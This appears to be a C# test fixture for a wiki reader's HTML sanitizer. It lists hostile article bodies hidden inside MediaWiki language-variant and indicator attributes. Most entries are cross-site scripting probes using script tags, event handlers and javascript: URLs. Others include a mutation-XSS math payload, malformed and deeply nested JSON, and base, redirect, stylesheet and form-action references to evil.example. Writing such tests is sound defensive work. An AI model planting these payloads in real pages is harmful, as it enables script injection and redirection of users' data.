using System.Net;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace WikiReader.Tests.Articles.Hostile;

/// <summary>Attacks in HTML that attributes contain: words of script variants, and indicators.</summary>
internal static class HostileEmbedded
{
    // Readable markup, which the mutants can change.
    private static readonly JsonSerializerOptions AsWritten = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    public static readonly Dictionary<string, string> Bodies = new(StringComparer.Ordinal)
    {
        ["a script in a variant"] = Variant("<script>alert(1)</script><img src=x onerror=alert(1)><p onclick=alert(1)>x"),
        ["a script in an indicator"] = Indicator("<span id=coordinates onclick=alert(1)><script>alert(1)</script><iframe src=javascript:alert(1)></iframe>x</span>"),
        ["a variant that closes what is around it"] = "<p>" + Variant("</span></p></div></article></main></body></html><script>alert(1)</script>x"),
        ["a variant that does not end"] = "<p>" + Variant("<b><i><table><tr><td><ul><li><a href=./Sun>x") + "y</p>",
        ["a comment that runs out of a variant"] = Variant("x<!-- ") + "<img src=x onerror=alert(1)> -->" + Variant("<style>") + "<p title='</style><img src=x onerror=alert(1)>'>y</p>",
        ["text that swallows the rest"] = Variant("<plaintext>") + Variant("<textarea>") + Variant("<title>") + Variant("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
        ["a variant in a table"] = "<table><tr>" + Variant("<td onclick=alert(1)>x</td>") + "<td>" + Variant("<tr><td>y</td></tr><caption>z</caption>") + "</table>",
        ["a variant in a link in a variant"] = "<a href=./Sun>" + Variant("<a href=javascript:alert(1)>x</a><a href=./Moon>" + Variant("<a href=./Earth>y</a>") + "</a>") + "</a>",
        ["a heading in a variant in a heading"] = "<h2 id=a>" + Variant("<h3 id=wr-main onclick=alert(1)>x</h3><form><h1 id=b>y</h1>") + "</h2>",
        ["an item in a variant in an item"] = "<ul><li>" + Variant("<li>x<ul><li>y") + "</ul><dl><dd>" + Variant("<dd>z<dt>w") + "</dl>",
        ["a formula in a variant"] = Variant("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mglyph></table></mtext></math>"),
        ["a drawing in a variant"] = Variant("<svg onload=alert(1)><rect width=9 height=9 onclick=alert(1) /><script>alert(1)</script></svg>"),
        ["a style sheet in a variant"] = Variant("<style data-mw-deduplicate='TemplateStyles:r9'>body{display:none}*{background:url(//evil.example)}</style><p style=position:fixed>x</p>"),
        ["a base and a redirect in a variant"] = Variant("<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'><link rel=stylesheet href=//evil.example/a.css><link rel=mw:PageProp/redirect href=javascript:alert(1)>x"),
        ["a template in a variant"] = Variant("<template shadowrootmode=open><script>alert(1)</script></template><frameset><frame src=//evil.example></frameset>x"),
        ["variants in variants"] = Nested(7),
        ["an indicator in an indicator"] = Indicator(Indicator("<span id=coordinates>x</span><script>alert(1)</script>") + "<span id=coordinates>y</span>"),
        ["an indicator in a variant"] = Variant(Indicator("<span class=geo onclick=alert(1)>1;2</span>")),
        ["two indicators with one id"] = Indicator("<i id=coordinates>a</i>") + Indicator("<i id=coordinates onclick=alert(1)>b</i>"),
        ["JSON that is none"] = "<span data-mw-variant='{\"disabled\":{\"t\":\"<script>alert(1)</script>'>a</span><span data-mw-variant='<img src=x onerror=alert(1)>'></span><meta typeof=mw:Extension/indicator data-mw='<script>'>",
        ["JSON with lone surrogates"] = "<span data-mw-variant='{\"disabled\":{\"t\":\"\\ud800<b>\"}}'></span><span data-mw-variant='{\"twoway\":[{\"l\":\"\\udfff\",\"t\":\"\\ud83d\"}]}'></span>",
        ["JSON with control characters"] = "<span data-mw-variant='{\"disabled\":{\"t\":\"a\\u0000b\\uffff\\ufffec\\u202ed\"}}'></span><span data-mw-variant='{\"disabled\":{\"t\":\"<p title=\\u0022\\u0000\\uffff\\u0022>x\"}}'></span>",
        ["JSON that is deep"] = "<span data-mw-variant='" + new string('[', 10_000) + "'></span><span data-mw-variant='" + string.Concat(Enumerable.Repeat("{\"disabled\":", 500)) + "'></span>",
        ["JSON of other types"] = "<span data-mw-variant='{\"twoway\":[1,null,{\"l\":[],\"t\":{}}],\"oneway\":3}'></span><span data-mw-variant='{\"twoway\":[]}'></span><span data-mw-variant='{\"name\":{\"t\":\"<script>alert(1)</script>\"}}'></span><span data-mw-variant='null'></span>",
        ["a variant whose code is markup"] = "<span data-mw-variant='" + WebUtility.HtmlEncode("{\"describe\":true,\"twoway\":[{\"l\":\"<img src=x onerror=alert(1)>\",\"t\":\"<b onclick=alert(1)>x\"}]}") + "'></span>",
        ["data-mw on an element that is shown"] = "<p data-mw='{\"html\":\"<script>alert(1)</script>\"}' typeof=mw:Extension/indicator>x</p><meta property=mw:PageProp/displaytitle content='<script>alert(1)</script>'>",
        ["a thousand variants"] = string.Concat(Enumerable.Repeat(Variant("<b onclick=alert(1)>x</b>"), 1000)),
        ["an element that is not listed, with everything"] = "<x-y id=wr-main class='wr-bar a' style='position:fixed;color:red' onclick=alert(1) role=dialog aria-label=x tabindex=0 slot=y is=z popover>a<p>b</p><x-z id=c>d</x-z></x-y>",
        ["elements that are renamed, with everything"] = "<details open ontoggle=alert(1) name=x><summary autofocus onfocus=alert(1)>a</summary>b</details><nav role=navigation onclick=alert(1)>c</nav><menu type=context onshow=alert(1)><li>d</menu><fieldset form=x disabled><legend>e</legend></fieldset>",
        ["a form that is unwrapped"] = "<form action=//evil.example/ method=post onsubmit=alert(1) id=f target=_top><label for=p>Word</label><input id=p type=password><fieldset><output name=o form=f>x</output><meter value=1>y</meter></fieldset></form>",
        ["a canvas, a slot and an output"] = "<canvas id=c onclick=alert(1)>a</canvas><slot name=s onslotchange=alert(1)>b</slot><output onclick=alert(1)>c</output><geolocation>d</geolocation>",
        ["letters of a formula"] = "<math><mi mathvariant='bold\" onclick=alert(1)'>x</mi><mstyle mathvariant=fraktur><mi>&lt;script&gt;</mi><mtext><b onclick=alert(1)>y</b>z</mtext></mstyle><mn mathvariant=DOUBLE-STRUCK>1</mn></math>",
        ["an image of the wiki's software that is none"] = "<img src=/w/extensions/../index.php?title=Special:UserLogout&x.png><img src=/w/extensions/%2e%2e/api.php/a.png><img src=/w/resources/x.php><img srcset='/w/extensions/a.php 2x, /w/extensions/b.png 1x' src=//upload.wikimedia.org/a.png>",
        ["subtitles that lead elsewhere"] = "<video src=//upload.wikimedia.org/v.webm><track src='javascript:alert(1)//api.php?action=timedtext' label=x><track src='data:text/html,/api.php?action=timedtext' label=y><track src='//u:p@evil.example/api.php?action=timedtext' label='<script>alert(1)</script>' srclang='\" onclick=alert(1)'></video>",
        ["a link without content that acts"] = "<a href=javascript:alert(1) id=x title=y></a><a href=./Sun aria-label='\" onclick=\"alert(1)'><i class=oo-ui-iconElement-icon></i></a><a class=autonumber href='data:text/html,x'></a>",
        ["a line number that is markup"] = "<span data-line='1\" onclick=\"alert(1)'>a</span><span data-line=999999999999>b</span><p data-line=1>c</p>",
    };

    private static string Variant(string html) => $"<span typeof='mw:LanguageVariant' data-mw-variant=\"{Encode(new { disabled = new { t = html } })}\"></span>";

    private static string Indicator(string html) => $"<meta typeof='mw:Extension/indicator' data-mw=\"{Encode(new { name = "indicator", attrs = new { name = "coordinates" }, html })}\">";

    private static string Encode(object data) => WebUtility.HtmlEncode(JsonSerializer.Serialize(data, AsWritten));

    private static string Nested(int levels)
    {
        var html = "<script>alert(1)</script>";
        for (var i = 0; i < levels; i++) html = Variant($"<b>{html}</b>");
        return html;
    }
}
